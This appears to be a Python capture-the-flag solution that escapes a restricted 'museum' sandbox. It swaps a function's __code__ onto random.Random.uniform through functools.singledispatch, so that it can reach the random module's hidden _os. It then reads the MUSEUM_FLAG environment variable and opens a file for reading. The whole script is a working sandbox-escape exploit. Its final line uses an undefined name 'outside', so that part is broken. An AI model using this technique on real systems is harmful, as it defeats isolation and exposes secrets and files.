# A function is a pair: code, and the module in which that code looks its names up. The code can be
# exchanged. Ours then runs in the library's module, and sees what that has imported.
import functools
import operator
import random


def ask(operation, thing):
    # singledispatch calls the operation from a function of the library's own. Where only the
    # library may read and write __code__, it is the library that does so.
    return functools.singledispatch(operation)(thing)


def errand(*_):
    # Here nobody has defined these names. In the module `random` they are imported ones.
    return _os, _os.environ["MUSEUM_FLAG"]


# Any function of that module will do. This one is behind random.uniform().
victim = random.Random.uniform
code = ask(operator.attrgetter("__code__"), errand)
ask(operator.methodcaller("__setattr__", "__code__", code), victim)

os, flag = random.uniform()

print(flag)
print(os.read(os.open(outside["file"], os.O_RDONLY), 100).decode())
